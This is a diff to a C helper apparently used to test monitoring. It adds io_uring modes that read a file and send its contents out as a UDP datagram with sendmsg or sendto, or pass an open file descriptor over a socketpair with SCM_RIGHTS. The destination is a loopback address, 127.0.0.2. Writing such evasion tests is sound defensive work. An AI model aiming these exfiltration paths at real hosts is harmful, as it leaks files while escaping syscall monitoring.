@@ -10,6 +10,10 @@
  *   uring-exfil direct FILE PORT  openat into a ring-only (direct) descriptor, read it through the ring
  *   uring-exfil splice FILE PORT  splice through the ring from the file into a pipe, then read it
  *   uring-exfil chunks FILE PORT  as ring, but read and send 64 bytes at a time (runs of completions)
+ *   uring-exfil udpmsg FILE PORT  as ring, but one UDP datagram, no connect: sendmsg with msg_name
+ *   uring-exfil udpto  FILE PORT  as udpmsg, but send with a destination (sqe addr2, as sendto)
+ *   uring-exfil rights FILE PORT  open(2) FILE and pass its descriptor over a socketpair with a
+ *                                 ring sendmsg (SCM_RIGHTS); prints "passed 1"
  *
  * Prints "read N sent M" and exits 0, or names the step that failed and exits 1.
  */
@@ -52,9 +56,30 @@ int main(int argc, char **argv) {
     perror("io_uring_queue_init");
     return 1;
   }
+  if (strcmp(mode, "rights") == 0) {
+    int fd = open(file, O_RDONLY), sp[2];
+    if (fd < 0 || socketpair(AF_UNIX, SOCK_STREAM, 0, sp) != 0) {
+      perror("open/socketpair");
+      return 1;
+    }
+    char one = 'x', ctl[CMSG_SPACE(sizeof(int))];
+    struct iovec iov = {.iov_base = &one, .iov_len = 1};
+    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl, .msg_controllen = sizeof ctl};
+    struct cmsghdr *c = CMSG_FIRSTHDR(&msg);
+    c->cmsg_level = SOL_SOCKET;
+    c->cmsg_type = SCM_RIGHTS;
+    c->cmsg_len = CMSG_LEN(sizeof(int));
+    memcpy(CMSG_DATA(c), &fd, sizeof(int));
+    struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
+    io_uring_prep_sendmsg(sqe, sp[0], &msg, 0);
+    run("sendmsg rights", sqe, 0);
+    printf("passed 1\n");
+    return 0;
+  }
   int n;
   int chunks = strcmp(mode, "chunks") == 0;
-  if (strcmp(mode, "ring") == 0 || chunks) {
+  int udpmsg = strcmp(mode, "udpmsg") == 0, udpto = strcmp(mode, "udpto") == 0;
+  if (strcmp(mode, "ring") == 0 || chunks || udpmsg || udpto) {
     struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
     io_uring_prep_openat(sqe, AT_FDCWD, file, O_RDONLY, 0);
     int fd = run("openat", sqe, 0);
@@ -104,9 +129,26 @@ int main(int argc, char **argv) {
     fprintf(stderr, "unknown mode %s\n", mode);
     return 2;
   }
-  int s = socket(AF_INET, SOCK_STREAM, 0);
   struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(argv[3]))};
   inet_pton(AF_INET, "127.0.0.2", &a.sin_addr);
+  if (udpmsg || udpto) {
+    int u = socket(AF_INET, SOCK_DGRAM, 0);
+    struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
+    struct iovec iov = {.iov_base = buf, .iov_len = (size_t)n};
+    struct msghdr msg = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &iov, .msg_iovlen = 1};
+    if (udpmsg) {
+      io_uring_prep_sendmsg(sqe, u, &msg, 0);
+    } else {
+      // liburing 2.3 has no io_uring_prep_sendto: the destination goes in addr2/addr_len (kernel 6.0+)
+      io_uring_prep_send(sqe, u, buf, n, 0);
+      sqe->addr2 = (unsigned long)&a;
+      sqe->addr_len = sizeof a;
+    }
+    int sent = run(udpmsg ? "sendmsg" : "sendto", sqe, 0);
+    printf("read %d sent %d\n", n, sent);
+    return 0;
+  }
+  int s = socket(AF_INET, SOCK_STREAM, 0);
   struct io_uring_sqe *sqe = io_uring_get_sqe(&ring);
   io_uring_prep_connect(sqe, s, (struct sockaddr *)&a, sizeof a);
   run("connect", sqe, 0);
